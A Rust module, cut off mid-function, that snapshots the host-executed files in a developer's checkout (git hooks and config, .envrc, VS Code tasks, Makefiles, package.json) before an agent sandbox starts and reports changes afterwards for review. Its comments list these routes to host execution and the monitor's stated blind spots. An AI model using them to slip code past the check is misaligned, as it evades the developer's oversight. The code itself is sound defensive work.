//! Files host tools run, changed by a sandbox (docs/SECURITY.md, "Files
//! host tools run"). The sandbox writes the developer's live checkout
//! (SPEC §6.1 `/workspace`), and some files there are executed by tools the
//! developer runs on the host afterwards: git runs `.git/hooks/*` and what
//! `.git/config` names (`core.fsmonitor`, `core.hooksPath`, filters), direnv
//! loads `.envrc`, an editor runs `.vscode/tasks.json`, `make` a Makefile,
//! `npm` the scripts of `package.json`, pre-commit its config. odek cannot
//! stop an agent from writing them — the project is the agent's to edit —
//! but it names every one that changed when the sandbox ends, so the
//! developer reviews them before running git or make.
//!
//! How:
//!
//! - [`HOST_EXECUTED`] is the one list of such paths (exact files, and
//!   `dir/*` for every entry of a directory, one level).
//! - When a sandbox with a writable mount into the working directory is
//!   launched, right before its container is created ([`record`]; for a
//!   warm pool's sandbox again when it is claimed, as nothing of the
//!   agent's ran before), odek records for each listed path whether it is
//!   absent, or its kind (file, symbolic link, directory, other), mode,
//!   size, the SHA-256 of a regular file's content (at most
//!   [`MAX_HASHED_BYTES`] a file and [`MAX_HASHED_TOTAL`] in all; beyond,
//!   size, times and inode stand in for it) and a link's target. The record
//!   is kept in `$ODEK_HOME/sandboxes/<name>/host-files.json` (directory
//!   0700, file 0600), so whichever process ends the sandbox (`odek sandbox
//!   down` for `odek sandbox up`'s) can compare.
//! - When the sandbox has been removed ([`finish`], called by
//!   `Client::close`), the same paths are read again and compared; every
//!   difference is a [`HostFileChange`]; the record is removed.
//!
//! Reading is done from the host, in a directory the agent may be changing
//! (a sibling sandbox on the same checkout): the working directory is
//! opened once (`safe_open::open_dir`, no symlink on its path) and checked
//! to be the directory the sandbox mounted; every path below it is reached
//! with `openat`/`fstatat` relative to a directory descriptor, never
//! following a symbolic link (`O_NOFOLLOW`, `AT_SYMLINK_NOFOLLOW`), a
//! file's content read through `safe_open::read_at` (`O_NONBLOCK`, so a
//! FIFO never blocks; `fstat` must say regular). A listed directory that is
//! a symbolic link, a file or anything but a directory (`.git` as a
//! worktree's file, or swapped for a link) is recorded as such and not
//! descended into: what it points to is not compared.
//!
//! Limits (said in docs/SECURITY.md): the report comes after the fact — it
//! does not prevent a change, and names changes made by anyone while the
//! sandbox lived (the developer too); a sandbox removed by the engine when
//! its owner died (SPEC §6.1 owner lifetime) is ended by nobody who could
//! report; files outside the list are not looked at.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::io::Write;
use std::os::fd::OwnedFd;
use std::path::Path;
use std::sync::Arc;

use rustix::fs::{AtFlags, FileType, Mode, OFlags};
use rustix::io::Errno;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::plan::{Isolation, Plan};

/// The paths host tools execute, relative to the working directory: an
/// exact file, or `dir/*` for every entry directly in `dir`. The
/// directories on the way (`.git`, `.git/hooks`, `.vscode`, `.husky`) are
/// recorded too: one that becomes a symbolic link or a file is a change.
///
/// - `.git/config`, `.git/config.worktree`: `core.fsmonitor`,
///   `core.hooksPath`, `core.pager`, filters, aliases run programs (the
///   second when `extensions.worktreeConfig` is on, as sparse checkouts set);
/// - `.git/commondir`, `.git/objects/info/alternates`: they send git to
///   another directory's config and hooks, or objects (a repository the
///   agent built elsewhere in the checkout);
/// - `.git/hooks/*`: git's hooks; `.husky/*` and `.husky/_/*`: husky's
///   (`core.hooksPath`; husky 9 points it at `.husky/_`);
/// - `.envrc`: direnv runs it on `cd`;
/// - `.vscode/tasks.json`, `.vscode/settings.json`: tasks (some run on
///   folder open) and settings naming programs;
/// - `Makefile`, `makefile`, `GNUmakefile`: whichever `make` reads;
/// - `package.json`: npm's scripts (and the dependencies whose install
///   scripts `npm install` runs): compared as a whole file;
/// - `.pre-commit-config.yaml`: pre-commit's hooks, `repo: local` ones
///   being any command.
pub const HOST_EXECUTED: &[&str] = &[
    ".git/config",
    ".git/config.worktree",
    ".git/commondir",
    ".git/objects/info/alternates",
    ".git/hooks/*",
    ".husky/*",
    ".husky/_/*",
    ".envrc",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    "Makefile",
    "makefile",
    "GNUmakefile",
    "package.json",
    ".pre-commit-config.yaml",
];

/// The hint that ends every report.
pub const REVIEW_HINT: &str = "review them before running git or make";

/// Largest file whose content is hashed (16 MiB); a larger one is compared
/// by size, modification and change times and inode.
pub const MAX_HASHED_BYTES: u64 = 16 << 20;

/// Most bytes hashed for one record (64 MiB): the files after it are
/// compared by size, times and inode, so a sandbox that fills `.git/hooks`
/// cannot make the comparison slow.
pub const MAX_HASHED_TOTAL: u64 = 64 << 20;

/// Entries of a listed directory (`.git/hooks`) recorded one by one, the
/// first by name; a directory with more is reported as such.
pub const MAX_DIR_ENTRIES: usize = 256;

/// Entries read from a listed directory at most (the rest are not counted).
const MAX_DIR_READ: usize = 100_000;

/// Largest record file read back (4 MiB).
const MAX_RECORD_BYTES: u64 = 4 << 20;

/// Schema name of the record file.
const RECORD_SCHEMA: &str = "odek.host-files/1";

/// The record's file name in the sandbox's directory.
const RECORD_FILE: &str = "host-files.json";

/// What changed about one path.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// It did not exist at launch.
    Created,
    /// It no longer exists.
    Deleted,
    /// A regular file's content (or, for a file not hashed, its size,
    /// times or inode).
    Content,
    /// Its permission bits.
    Mode,
    /// A symbolic link's target.
    SymlinkTarget,
    /// What it is: a file became a symbolic link, a directory a file, ….
    Kind,
    /// It could not be read at launch or at the end, so it cannot be said
    /// to be unchanged.
    Unreadable,
    /// A listed directory (`.git/hooks`) holds more than 256 entries, more
    /// than are compared one by one.
    TooManyEntries,
}

/// One path host tools execute that changed while the sandbox lived.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct HostFileChange {
    /// The path relative to the working directory (`.git/hooks/pre-commit`),
    /// as the file system has it (bytes that are not UTF-8 as U+FFFD). The
    /// sandbox chose the name: escape control characters before showing it
    /// on a terminal.
    pub path: String,
    /// What changed, as a phrase (`created, executable`; `content changed`;
    /// `mode 0644 → 0755, now executable`; `now a symbolic link to
    /// /etc/passwd`); link targets in it have their control characters
    /// escaped.
    pub change: String,
    /// The same as data.
    pub kinds: Vec<ChangeKind>,
}

/// What the end of a sandbox says about the files host tools run
/// ([`finish`]).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct Report {
    /// Every listed path that changed, by path.
    pub changed: Vec<HostFileChange>,
    /// Why nothing could be compared (no record was taken at launch, it
    /// could not be read, the working directory is gone); `None` when the
    /// comparison ran or nothing needed one.
    pub unchecked: Option<String>,
    /// What a copied workspace's copy-back at the end wrote and left out
    /// (SPEC §6.1 "workspace"); `None` for a bind-mounted workspace.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub copied_back: Option<crate::workspace_copy::Unpacked>,
}

impl Report {
    /// The report as one line for a log or stderr (no `odek: ` prefix, no
    /// newline), every name escaped; `None` when there is nothing to say.
    /// `the sandbox changed files that host tools run: .git/hooks/pre-commit
    /// (created, executable) — review them before running git or make`.
    pub fn line(&self) -> Option<String> {
        if !self.changed.is_empty() {
            let list: Vec<String> = self
                .changed
                .iter()
                .map(|c| format!("{} ({})", crate::text::foreign(&c.path), c.change))
                .collect();
            return Some(format!(
                "the sandbox changed files that host tools run: {} — {REVIEW_HINT}",
                list.join(", ")
            ));
        }
        self.unchecked.as_ref().map(|why| {
            format!(
                "cannot tell whether the sandbox changed files that host tools run ({}): {REVIEW_HINT} ({})",
                crate::text::foreign(why),
                HOST_EXECUTED.join(", ")
            )
        })
    }
}

/// What one path was when it was read.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
enum State {
    /// No such entry.
    Absent,
    /// A regular file.
    File {
        /// Permission bits (`st_mode & 0o7777`).
        mode: u32,
        /// Size in bytes.
        size: u64,
        /// SHA-256 of the content (hex); `None` when it was not hashed
        /// (too large, over the record's budget, unreadable).
        sha256: Option<String>,
        /// `st_mtime` as `seconds.nanoseconds`.
        mtime: String,
        /// `st_ctime` as `seconds.nanoseconds` (a sandbox cannot set it).
        ctime: String,
        /// `st_ino`.
        ino: u64,
    },
    /// A symbolic link (never followed).
    Symlink {
        /// Its target (bytes that are not UTF-8 as U+FFFD).
        target: String,
        /// The target's bytes in hex when they are not UTF-8.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        target_hex: Option<String>,
    },
    /// A directory.
    Dir {
        /// Permission bits.
        mode: u32,
        /// For a listed directory (`dir/*`): its entries beyond
        /// [`MAX_DIR_ENTRIES`] (not recorded one by one).
        #[serde(default)]
        more: usize,
    },
    /// A FIFO, socket or device.
    Other {
        /// What it is (`a named pipe (FIFO)`).
        what: String,
        /// Permission bits.
        mode: u32,
    },
    /// It could not be read: why.
    Unreadable {
        /// The reason.
        why: String,
    },
}

/// The record of one sandbox's listed paths.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
struct Record {
    /// Always [`RECORD_SCHEMA`].
    schema: String,
    /// The working directory (absolute, canonical).
    workdir: std::path::PathBuf,
    /// Its identity when recorded.
    workdir_id: crate::config::FileId,
    /// Every listed path read, and the directories on the way, by path.
    paths: BTreeMap<String, State>,
}

/// True when the sandbox of `plan` can write into its working directory: a
/// container whose `/workspace` is read-write, or one of whose volumes
/// (which lie inside the working directory, SPEC §3.4) is.
pub fn writes_workdir(plan: &Plan) -> bool {
    plan.isolation == Isolation::Container
        && (!plan.readonly || plan.volumes.iter().any(|v| !v.read_only))
}

/// Records the listed paths of `plan`'s working directory for the sandbox
/// `name`, in `$ODEK_HOME/sandboxes/<name>/host-files.json`, replacing an
/// earlier record of that name. Does nothing (`Ok`) for a sandbox that
/// cannot write the working directory ([`writes_workdir`]).
///
/// Blocking file I/O: call it from a blocking context
/// (`tokio::task::spawn_blocking`). Errors: the working directory cannot be
/// opened or is not the plan's, the sandbox's directory cannot be made
/// private or written, as a sentence for a warning.
pub fn record(plan: &Plan, name: &str) -> Result<(), String> {
    if !writes_workdir(plan) {
        return Ok(());
    }
    record_at(
        &plan.odek_home,
        &plan.workdir,
        plan.workdir_id.as_ref(),
        name,
    )
}

/// [`record`] of the working directory `workdir` (which must have the
/// identity `want` when given) under `odek_home`.
fn record_at(
    odek_home: &Path,
    workdir: &Path,
    want: Option<&crate::config::FileId>,
    name: &str,
) -> Result<(), String> {
    let (root, id) = open_workdir(workdir)?;
    if want.is_some_and(|w| *w != id) {
        return Err(format!(
            "the working directory {} is not the one that was resolved",
            crate::text::shown(workdir)
        ));
    }
    let record = Record {
        schema: RECORD_SCHEMA.into(),
        workdir: workdir.to_path_buf(),
        workdir_id: id,
        paths: read_paths(root),
    };
    let dir = sandbox_dir(odek_home, name, true)
        .and_then(|d| d.ok_or_else(|| "it could not be created".to_string()))
        .map_err(|e| format!("the sandbox's directory in $ODEK_HOME: {e}"))?;
    let json = serde_json::to_vec(&record).map_err(|e| e.to_string())?;
    write_private(&dir, RECORD_FILE, &json)
        .map_err(|e| format!("cannot write {RECORD_FILE} in $ODEK_HOME: {e}"))
}

/// Compares the record of the sandbox `name` in `odek_home` with its
/// working directory now, and removes the record: call it once the
/// sandbox's container is gone (nothing in it can change a file any more).
/// `None` when there is no record (a host run, a read-only workspace, a
/// sandbox whose launch did not get that far). Blocking file I/O.
pub fn finish(odek_home: &Path, name: &str) -> Option<Report> {
    let dir = match sandbox_dir(odek_home, name, false) {
        Ok(Some(d)) => d,
        Ok(None) => return None,
        Err(e) => {
            return Some(Report {
                changed: Vec::new(),
                unchecked: Some(format!("the sandbox's directory in $ODEK_HOME: {e}")),
                copied_back: None,
            })
        }
    };
    let read = match crate::safe_open::read_at(&dir, OsStr::new(RECORD_FILE), MAX_RECORD_BYTES) {
        Ok(None) => return None,
        Ok(Some((bytes, st))) => {
            if !crate::ownership::is_trusted_owner(st.st_uid) || st.st_mode & 0o022 != 0 {
                Err("the launch's record is not private to you".to_string())
            } else {
                serde_json::from_slice::<Record>(&bytes)
                    .map_err(|e| format!("the launch's record is malformed ({e})"))
            }
        }
        Err(e) => Err(format!("the launch's record {e}")),
    };
    let report = match read.and_then(|r| compare_now(&r)) {
        Ok(changed) => Report {
            changed,
            unchecked: None,
            copied_back: None,
        },
        Err(why) => Report {
            changed: Vec::new(),
            unchecked: Some(why),
            copied_back: None,
        },
    };
    forget(odek_home, name, &dir);
    Some(report)
}

/// Removes the record of the sandbox `name`, if any, without comparing
/// (a launch that failed, a sandbox removed unclaimed). Blocking file I/O.
pub fn discard(odek_home: &Path, name: &str) {
    if let Ok(Some(dir)) = sandbox_dir(odek_home, name, false) {
        forget(odek_home, name, &dir);
    }
}

/// The record's working directory read again and compared with it.
fn compare_now(record: &Record) -> Result<Vec<HostFileChange>, String> {
    if record.schema != RECORD_SCHEMA {
        return Err(format!(
            "the launch's record is of another kind ({})",
            crate::text::quote(&record.schema)
        ));
    }
    let (root, id) = open_workdir(&record.workdir)?;
    if id != record.workdir_id {
        return Err(format!(
            "{} is no longer the directory the sandbox mounted",
            crate::text::shown(&record.workdir)
        ));
    }
    Ok(compare(&record.paths, &read_paths(root)))
}

/// Removes the record (and the sandbox's directory when nothing else is in
/// it).
fn forget(odek_home: &Path, name: &str, dir: &OwnedFd) {
    let _ = rustix::fs::unlinkat(dir, RECORD_FILE, AtFlags::empty());
    if let Ok(Some(sandboxes)) = open_private_dir(odek_home, false) {
        // Not empty (another file of the sandbox's): kept.
        let _ = rustix::fs::unlinkat(&sandboxes, name, AtFlags::REMOVEDIR);
    }
}

/// How much older than a listing a record must be for [`prune`] to remove
/// it: a launch writes its record right before it creates the container,
/// so a listing made in between does not show it yet.
const PRUNE_MARGIN: std::time::Duration = std::time::Duration::from_secs(300);

/// Removes the records of sandboxes not among `live` (container names)
/// written more than [`PRUNE_MARGIN`] before `listed`: gc calls it after it
/// listed, for sandboxes removed without a report (their owner died, SPEC
/// §6.1 owner lifetime). Best effort.
pub(crate) fn prune(odek_home: &Path, live: &[&str], listed: std::time::SystemTime) {
    let Ok(Some(sandboxes)) = open_private_dir(odek_home, false) else {
        return;
    };
    let Ok(mut entries) = rustix::fs::Dir::read_from(&sandboxes) else {
        return;
    };
    let mut names = Vec::new();
    while let Some(Ok(e)) = entries.next() {
        let name = e.file_name().to_string_lossy().into_owned();
        if crate::labels::is_sandbox_name(&name) && !live.contains(&name.as_str()) {
            names.push(name);
        }
        if names.len() >= MAX_DIR_READ {
            break;
        }
    }
    for name in names {
        let Ok(Some(dir)) = sandbox_dir(odek_home, &name, false) else {
            continue;
        };
        let old = rustix::fs::statat(&dir, RECORD_FILE, AtFlags::SYMLINK_NOFOLLOW)
            .ok()
            .and_then(|st| u64::try_from(st.st_mtime).ok())
            .is_some_and(|t| {
                std::time::UNIX_EPOCH + std::time::Duration::from_secs(t) + PRUNE_MARGIN < listed
            });
        if old {
            forget(odek_home, &name, &dir);
        }
    }
}

/// The per-sandbox directory `$ODEK_HOME/sandboxes/<name>/`, opened (and,
/// with `create`, made: mode 0700) without following a symbolic link at
/// `sandboxes` or `<name>`, each checked to belong to this user or root and
/// not to be writable by group or others (`ownership`). `Ok(None)` when it
/// does not exist and `create` is false. `name` must be a sandbox name
/// (`labels::is_sandbox_name`). The one place that opens it: other
/// per-sandbox files belong here too.
///
/// Errors: a sentence naming what is wrong (a symbolic link, another
/// user's, group-writable, cannot be made).
pub(crate) fn sandbox_dir(
    odek_home: &Path,
    name: &str,
    create: bool,
) -> Result<Option<OwnedFd>, String> {
    if !crate::labels::is_sandbox_name(name) {
        return Err(format!(
            "{} is not a sandbox name",
            crate::text::quote(name)
        ));
    }
    let Some(sandboxes) = open_private_dir(odek_home, create)? else {
        return Ok(None);
    };
    let shown = odek_home.join("sandboxes").join(name);
    private_subdir(&sandboxes, name, &shown, create)
}

/// `$ODEK_HOME/sandboxes`, as [`sandbox_dir`] opens it.
fn open_private_dir(odek_home: &Path, create: bool) -> Result<Option<OwnedFd>, String> {
    // $ODEK_HOME itself: the operator's (its path may pass a symlink of
    // theirs, as the rest of odek allows), checked as the launch key's is.
    let home = match rustix::fs::open(
        odek_home,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        Err(Errno::NOENT) if !create => return Ok(None),
        Err(e) => {
            return Err(format!(
                "cannot open {} ({e}; a symbolic link is refused)",
                crate::text::shown(odek_home)
            ))
        }
    };
    let home = check_private_fd(home, odek_home)?;
    private_subdir(&home, "sandboxes", &odek_home.join("sandboxes"), create)
}

/// The directory `name` in `parent`, made 0700 with `create`, opened with
/// `O_NOFOLLOW` and checked private (`shown`: its path for messages).
fn private_subdir(
    parent: &OwnedFd,
    name: &str,
    shown: &Path,
    create: bool,
) -> Result<Option<OwnedFd>, String> {
    if create {
        match rustix::fs::mkdirat(parent, name, Mode::from_raw_mode(0o700)) {
            Ok(()) | Err(Errno::EXIST) => {}
            Err(e) => return Err(format!("cannot create {} ({e})", crate::text::shown(shown))),
        }
    }
    let fd = match rustix::fs::openat(
        parent,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        Err(Errno::NOENT) if !create => return Ok(None),
        Err(e) => {
            return Err(format!(
                "cannot open {} ({e}; a symbolic link is refused)",
                crate::text::shown(shown)
            ))
        }
    };
    check_private_fd(fd, shown).map(Some)
}

/// `fd` when the directory it is belongs to this user or root and group
/// and others cannot write it (`ownership::check_private_meta`).
fn check_private_fd(fd: OwnedFd, shown: &Path) -> Result<OwnedFd, String> {
    let file = std::fs::File::from(fd);
    let meta = file
        .metadata()
        .map_err(|e| format!("cannot read {} ({e})", crate::text::shown(shown)))?;
    crate::ownership::check_private_meta(shown, &meta)
        .map_err(|why| format!("{} {why}", crate::text::shown(shown)))?;
    Ok(OwnedFd::from(file))
}

/// Writes `bytes` to `name` in `dir` atomically: a new file (mode 0600,
/// `O_EXCL | O_NOFOLLOW`) under a temporary name, synced, renamed over.
pub(crate) fn write_private(dir: &OwnedFd, name: &str, bytes: &[u8]) -> std::io::Result<()> {
    let tmp = format!(
        ".{name}.{}.tmp",
        hex::encode(rand::Rng::random::<[u8; 8]>(&mut rand::rng()))
    );
    let fd = rustix::fs::openat(
        dir,
        tmp.as_str(),
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )?;
    let mut file = std::fs::File::from(fd);
    let written = file
        .write_all(bytes)
        .and_then(|()| file.sync_all())
        .and_then(|()| Ok(rustix::fs::renameat(dir, tmp.as_str(), dir, name)?));
    if written.is_err() {
        let _ = rustix::fs::unlinkat(dir, tmp.as_str(), AtFlags::empty());
    }
    written
}

/// The working directory opened for listing (no symlink on its path) and
/// its identity.
fn open_workdir(workdir: &Path) -> Result<(OwnedFd, crate::config::FileId), String> {
    let fd = crate::safe_open::open_dir(workdir, true)?;
    let st = rustix::fs::fstat(&fd)
        .map_err(|e| format!("cannot read {} ({e})", crate::text::shown(workdir)))?;
    Ok((
        fd,
        crate::config::FileId {
            dev: st.st_dev,
            ino: st.st_ino,
        },
    ))
}

/// Reads every listed path ([`HOST_EXECUTED`]) and the directories on the
/// way, under `root`.
fn read_paths(root: OwnedFd) -> BTreeMap<String, State> {
    let mut reader = Reader {
        root: Arc::new(root),
        paths: BTreeMap::new(),
        dirs: BTreeMap::new(),
        hashed: 0,
    };
    for listed in HOST_EXECUTED {
        let (parent, last) = match listed.rsplit_once('/') {
            Some((p, l)) => (p, l),
            None => ("", *listed),
        };
        let Some(dir) = reader.dir(parent) else {
            continue;
        };
        if last == "*" {
            reader.list(&dir, parent);
        } else {
            let state = reader.state(&dir, OsStr::new(last));
            reader.paths.insert(listed.to_string(), state);
        }
    }
    reader.paths
}

/// The walk of [`read_paths`].
struct Reader {
    /// The working directory.
    root: Arc<OwnedFd>,
    paths: BTreeMap<String, State>,
    /// Directories opened so far by path (`None`: not a directory, or
    /// absent: nothing below it is read).
    dirs: BTreeMap<String, Option<Arc<OwnedFd>>>,
    /// Bytes hashed so far ([`MAX_HASHED_TOTAL`]).
    hashed: u64,
}

impl Reader {
    /// The directory at `path` (`""`: the root), each component recorded
    /// and opened without following a symlink; `None` when one is absent
    /// or not a directory.
    fn dir(&mut self, path: &str) -> Option<Arc<OwnedFd>> {
        if path.is_empty() {
            return Some(self.root.clone());
        }
        if let Some(d) = self.dirs.get(path) {
            return d.clone();
        }
        let (parent, last) = match path.rsplit_once('/') {
            Some((p, l)) => (p, l),
            None => ("", path),
        };
        let opened = self.dir(parent).and_then(|p| {
            let state = self.state(&p, OsStr::new(last));
            let is_dir = matches!(state, State::Dir { .. });
            self.paths.insert(path.to_string(), state);
            if !is_dir {
                return None;
            }
            match rustix::fs::openat(
                &*p,
                last,
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::empty(),
            ) {
                Ok(fd) => Some(Arc::new(fd)),
                Err(e) => {
                    // Swapped between the stat and the open.
                    self.paths.insert(
                        path.to_string(),
                        State::Unreadable {
                            why: format!("cannot be opened as a directory: {e}"),
                        },
                    );
                    None
                }
            }
        });
        self.dirs.insert(path.to_string(), opened.clone());
        opened
    }

    /// Records every entry of the directory `dir` (at `path`): the first
    /// [`MAX_DIR_ENTRIES`] by name one by one, the count of the rest on the
    /// directory's own state.
    fn list(&mut self, dir: &OwnedFd, path: &str) {
        let mut names: Vec<std::ffi::CString> = Vec::new();
        let listed = rustix::fs::Dir::read_from(dir).map(|d| {
            for entry in d {
                match entry {
                    Ok(e) => {
                        let n = e.file_name();
                        if n.to_bytes() != b"." && n.to_bytes() != b".." {
                            names.push(n.to_owned());
                        }
                    }
                    Err(_) => break,
                }
                if names.len() >= MAX_DIR_READ {
                    break;
                }
            }
        });
        if let Err(e) = listed {
            self.paths.insert(
                path.to_string(),
                State::Unreadable {
                    why: format!("cannot be listed: {e}"),
                },
            );
            return;
        }
        names.sort();
        let more = names.len().saturating_sub(MAX_DIR_ENTRIES);
        names.truncate(MAX_DIR_ENTRIES);
        if let Some(State::Dir { more: m, .. }) = self.paths.get_mut(path) {
            *m = more;
        }
        for name in names {
            let os: &OsStr = std::os::unix::ffi::OsStrExt::from_bytes(name.to_bytes());
            let key = format!("{path}/{}", os.to_string_lossy());
            let state = self.state(dir, os);
            self.paths.insert(key, state);
        }
    }

    /// What `name` in `dir` is, read without following a symlink.
    fn state(&mut self, dir: &OwnedFd, name: &OsStr) -> State {
        let st = match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
            Ok(st) => st,
            Err(Errno::NOENT) => return State::Absent,
            Err(e) => {
                return State::Unreadable {
                    why: format!("cannot be read: {e}"),
                }
            }
        };
        let mode = st.st_mode & 0o7777;
        match FileType::from_raw_mode(st.st_mode) {
            FileType::RegularFile => self.file(dir, name, &st),
            FileType::Symlink => match rustix::fs::readlinkat(dir, name, Vec::new()) {
                Ok(target) => {
                    let bytes = target.into_bytes();
                    let (target, target_hex) = match String::from_utf8(bytes) {
                        Ok(s) => (s, None),
                        Err(e) => {
                            let b = e.into_bytes();
                            (
                                String::from_utf8_lossy(&b).into_owned(),
                                Some(hex::encode(&b)),
                            )
                        }
                    };
                    State::Symlink { target, target_hex }
                }
                Err(e) => State::Unreadable {
                    why: format!("its link cannot be read: {e}"),
                },
            },
            FileType::Directory => State::Dir { mode, more: 0 },
            other => State::Other {
                what: crate::safe_open::kind_of(other).to_string(),
                mode,
            },
        }
    }

    /// A regular file: its metadata from `st`, its content hashed through a
    /// descriptor that `fstat` says is still a regular file, within the caps.
    fn file(&mut self, dir: &OwnedFd, name: &OsStr, st: &rustix::fs::Stat) -> State {
        let size = u64::try_from(st.st_size).unwrap_or(0);
        let mut state = File {
            mode: st.st_mode & 0o7777,
            size,
            mtime: format!("{}.{:09}", st.st_mtime, st.st_mtime_nsec),
            ctime: format!("{}.{:09}", st.st_ctime, st.st_ctime_nsec),
            ino: st.st_ino,
        };
        let mut sha256 = None;
        if size <= MAX_HASHED_BYTES && self.hashed + size <= MAX_HASHED_TOTAL {
            match crate::safe_open::read_at(dir, name, MAX_HASHED_BYTES) {
                Ok(Some((bytes, st2))) => {
                    self.hashed += bytes.len() as u64;
                    sha256 = Some(hex::encode(Sha256::digest(&bytes)));
                    // What was hashed is what the descriptor showed.
                    state = File {
                        mode: st2.st_mode & 0o7777,
                        size: bytes.len() as u64,
                        mtime: format!("{}.{:09}", st2.st_mtime, st2.st_mtime_nsec),
                        ctime: format!("{}.{:09}", st2.st_ctime, st2.st_ctime_nsec),
                        ino: st2.st_ino,
                    };
                }
                // Gone or swapped since the stat: read it as it is now.
                Ok(None) => return State::Absent,
                Err(crate::safe_open::Refused::Symlink)
                | Err(crate::safe_open::Refused::NotRegular(_)) => {
                    return self.state_once_more(dir, name)
                }
                // Unreadable (permissions): compared by its metadata.
                Err(_) => {}
            }
        }
        State::File {
            mode: state.mode,
            size: state.size,
            sha256,
            mtime: state.mtime,
            ctime: state.ctime,
            ino: state.ino,
        }
    }

    /// The state of an entry swapped while it was read: its kind now,
    /// without hashing (a file changing under the reader is unreadable).
    fn state_once_more(&mut self, dir: &OwnedFd, name: &OsStr) -> State {
        match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
            Ok(st) if FileType::from_raw_mode(st.st_mode) == FileType::RegularFile => {
                State::Unreadable {
                    why: "it changed while it was read".into(),
                }
            }
            _ => {
                // Not a regular file now: what it is, by the same rules.
                let saved = self.hashed;
                self.hashed = MAX_HASHED_TOTAL;
                let s = self.state(dir, name);
                self.hashed = saved;
                s
            }
        }
    }
}

/// A file's metadata while it is read ([`Reader::file`]).
struct File {
    mode: u32,
    size: u64,
    mtime: String,
    ctime: String,
    ino: u64,
}

/// The directories on the way to a listed path and the listed directories
/// themselves (`.git`, `.git/hooks`, `.vscode`, `.husky`): their own
/// appearing or disappearing as directories is not a change (their entries
/// are compared), but becoming anything else is.
fn containers() -> BTreeSet<String> {
    let mut set = BTreeSet::new();
    for listed in HOST_EXECUTED {
        let parts: Vec<&str> = listed.split('/').collect();
        for i in 1..parts.len() {
            set.insert(parts[..i].join("/"));
        }
    }
    set
}

/// For the listed directory `dir` (`dir/*`) holding more entries than are
/// recorded in `m`: `Some` of the last entry recorded (`None` if none);
/// `None` when all its entries are recorded or it is not a directory.
fn last_listed<'a>(m: &'a BTreeMap<String, State>, dir: &str) -> Option<Option<&'a String>> {
    let prefix = format!("{dir}/");
    match m.get(dir) {
        Some(State::Dir { more, .. }) if *more > 0 => Some(
            m.keys()
                .rfind(|k| k.starts_with(&prefix) && !k[prefix.len()..].contains('/')),
        ),
        _ => None,
    }
}

/// Every difference between two records' paths, by path.
fn compare(
    before: &BTreeMap<String, State>,
    after: &BTreeMap<String, State>,
) -> Vec<HostFileChange> {
    let containers = containers();
    let keys: BTreeSet<&String> = before.keys().chain(after.keys()).collect();
    let absent = State::Absent;
    // A listed directory with more entries than are recorded: its entries
    // are compared up to the last name both records reach (the directory
    // itself is reported as too full).
    let cutoffs: Vec<(String, &String)> = HOST_EXECUTED
        .iter()
        .filter_map(|l| l.strip_suffix("/*"))
        .filter_map(|dir| {
            let prefix = format!("{dir}/");
            let cut = [last_listed(before, dir), last_listed(after, dir)]
                .into_iter()
                .flatten()
                .min()?;
            cut.map(|c| (prefix, c))
        })
        .collect();
    let mut out = Vec::new();
    for key in keys {
        if cutoffs
            .iter()
            .any(|(prefix, cut)| key.starts_with(prefix.as_str()) && key.as_str() > cut.as_str())
        {
            continue;
        }
        let a = before.get(key.as_str()).unwrap_or(&absent);
        let b = after.get(key.as_str()).unwrap_or(&absent);
        // Below a directory that is not one (any more, or was not): that
        // directory's own change says it, and what is below is not read.
        let below_non_dir = containers.iter().any(|c| {
            key.starts_with(&format!("{c}/"))
                && [before.get(c.as_str()), after.get(c.as_str())]
                    .into_iter()
                    .flatten()
                    .any(|s| !matches!(s, State::Absent | State::Dir { .. }))
        });
        if below_non_dir {
            continue;
        }
        let container = containers.contains(key.as_str());
        if let Some((change, kinds)) = difference(a, b, container) {
            out.push(HostFileChange {
                path: key.clone(),
                change,
                kinds,
            });
        }
    }
    out
}

/// How `a` (at launch) became `b` (at the end), or `None` when they are the
/// same. A `container` directory appearing, disappearing or changing mode
/// is no change; holding more entries than are compared is.
fn difference(a: &State, b: &State, container: bool) -> Option<(String, Vec<ChangeKind>)> {
    use ChangeKind as K;
    let exec = |mode: u32| mode & 0o111 != 0;
    if container {
        let more = match b {
            State::Dir { more, .. } => *more,
            _ => 0,
        };
        let dirs = matches!(
            (a, b),
            (
                State::Absent | State::Dir { .. },
                State::Absent | State::Dir { .. }
            )
        );
        if dirs {
            return (more > 0).then(|| {
                (
                    format!(
                        "holds {} entries, more than the {MAX_DIR_ENTRIES} compared one by one: review every entry",
                        more + MAX_DIR_ENTRIES
                    ),
                    vec![K::TooManyEntries],
                )
            });
        }
    }
    match (a, b) {
        (State::Unreadable { why }, _) => Some((
            format!(
                "could not be read at launch ({}), so it cannot be compared",
                crate::text::foreign(why)
            ),
            vec![K::Unreadable],
        )),
        (_, State::Unreadable { why }) => Some((
            format!("cannot be read now ({})", crate::text::foreign(why)),
            vec![K::Unreadable],
        )),
        (State::Absent, State::Absent) => None,
        (State::Absent, State::File { mode, .. }) if !exec(*mode) => {
            Some(("created".into(), vec![K::Created]))
        }
